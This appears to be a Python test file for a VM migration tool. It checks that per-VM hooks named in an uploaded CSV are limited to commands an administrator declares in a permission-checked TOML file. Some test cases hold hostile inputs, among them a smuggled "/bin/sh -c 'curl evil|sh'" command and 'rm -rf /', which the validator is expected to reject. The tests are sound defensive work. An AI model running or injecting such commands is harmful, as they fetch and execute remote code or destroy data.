"""Per-VM hooks: a plan names them, the appliance's administrator declares what they run, and an uploaded CSV
cannot make the appliance run anything else."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from plan_helpers import errors_at

from vmshift.plan.hooks import HOOKS_FILE_ENV, HookCatalog, HooksFileInvalid, load_hooks
from vmshift.plan.schema import HookMoment

HOOKS_TOML = """
[hooks.quiesce-sql]
command = ["/opt/vmshift-hooks/quiesce-sql.sh", "--flush"]
moments = ["pre-test-migration", "pre-cutover"]
timeout_seconds = 600

[hooks.notify-cmdb]
deployment = "notify-cmdb/prod"
"""


@pytest.fixture
def hooks_file(tmp_path: Path) -> Path:
    path = tmp_path / "hooks.toml"
    path.write_text(HOOKS_TOML, encoding="utf-8")
    path.chmod(0o644)
    return path


def test_the_appliance_declares_commands_and_deployments_with_their_moments(hooks_file):
    catalog = load_hooks(hooks_file)

    assert catalog["quiesce-sql"].command == ("/opt/vmshift-hooks/quiesce-sql.sh", "--flush")
    assert catalog["quiesce-sql"].moments == {HookMoment.PRE_TEST_MIGRATION, HookMoment.PRE_CUTOVER}
    assert catalog["quiesce-sql"].timeout_s == 600
    assert catalog["notify-cmdb"].deployment == "notify-cmdb/prod"
    assert catalog["notify-cmdb"].moments == set(HookMoment)


def test_a_vms_hooks_are_kept_in_the_plans_order_per_moment(validate_example, hooks_file):
    hooks = "pre-cutover=quiesce-sql;post-cutover=notify-cmdb;pre-test-migration=quiesce-sql"
    result = validate_example({2: {"hooks": hooks}}, hooks=load_hooks(hooks_file))

    sql = result.plan.waves[0].vms[0]
    assert sql.hooks_at(HookMoment.PRE_CUTOVER) == ("quiesce-sql",)
    assert sql.hooks_at(HookMoment.POST_CUTOVER) == ("notify-cmdb",)
    assert result.plan.waves[0].vms[1].hooks == ()


@pytest.mark.parametrize(
    ("hooks", "message"),
    [("pre-cutover=drop-tables", "unknown hook 'drop-tables'"),
     ("post-cutover=quiesce-sql", "declared for pre-cutover, pre-test-migration, not post-cutover"),
     ("pre-cutover=/bin/sh -c 'curl evil|sh'", "never a command"),
     ("whenever=quiesce-sql", "not a moment")],
)
def test_a_hook_the_appliance_does_not_offer_there_is_a_row_level_error(validate_example, hooks_file, hooks,
                                                                         message):
    result = validate_example({3: {"hooks": hooks}}, hooks=load_hooks(hooks_file))

    assert (3, "hooks") in errors_at(result)
    assert message in next(error.message for error in result.errors if error.row == 3)


def test_without_a_hooks_file_no_hook_exists(validate_example, monkeypatch, tmp_path):
    monkeypatch.setenv(HOOKS_FILE_ENV, str(tmp_path / "missing.toml"))

    result = validate_example({2: {"hooks": "pre-cutover=quiesce-sql"}})

    assert (2, "hooks") in errors_at(result) and "cannot read it" in result.errors[0].message


def test_the_hooks_file_is_found_through_the_environment(validate_example, monkeypatch, hooks_file):
    monkeypatch.setenv(HOOKS_FILE_ENV, str(hooks_file))

    assert validate_example({2: {"hooks": "pre-cutover=quiesce-sql"}}).ok


def test_a_hooks_file_others_may_write_is_not_trusted(hooks_file):
    hooks_file.chmod(0o666)

    with pytest.raises(HooksFileInvalid, match="writable by its group or by others"):
        load_hooks(hooks_file)


def test_a_hooks_file_of_another_user_is_not_trusted(hooks_file):
    # The suite runs as root (make test installs Debian packages); root may give the file to another user.
    os.chown(hooks_file, 12345, 12345)

    with pytest.raises(HooksFileInvalid, match="belongs to user id 12345"):
        load_hooks(hooks_file)


@pytest.mark.parametrize(
    ("body", "message"),
    [('[hooks.x]\ncommand = "rm -rf /"', "non-empty list"),
     ('[hooks.x]\ncommand = ["a"]\ndeployment = "f/d"', "either"),
     ("[hooks.x]\n", "either"), ('[hooks.x]\ndeployment = "nodeployment"', "FLOW/DEPLOYMENT"),
     ('[hooks.x]\ncommand = ["a"]\nmoments = ["lunch"]', "not a moment"),
     ('[hooks.x]\ncommand = ["a"]\nshell = true', "unknown key"),
     ('[hook.x]\ncommand = ["a"]', "unknown table"), ("[hooks.x\n", "not TOML"),
     ('[hooks."x y"]\ncommand = ["a"]', "not a name")],
)
def test_a_broken_hooks_file_says_what_to_fix(tmp_path, body, message):
    path = tmp_path / "hooks.toml"
    path.write_text(body, encoding="utf-8")
    path.chmod(0o600)

    with pytest.raises(HooksFileInvalid, match=message):
        load_hooks(path)


def test_no_hooks_file_at_all_declares_nothing(monkeypatch):
    monkeypatch.delenv(HOOKS_FILE_ENV, raising=False)

    assert HookCatalog().problem(HookMoment.PRE_CUTOVER, "x").startswith("unknown hook 'x'")
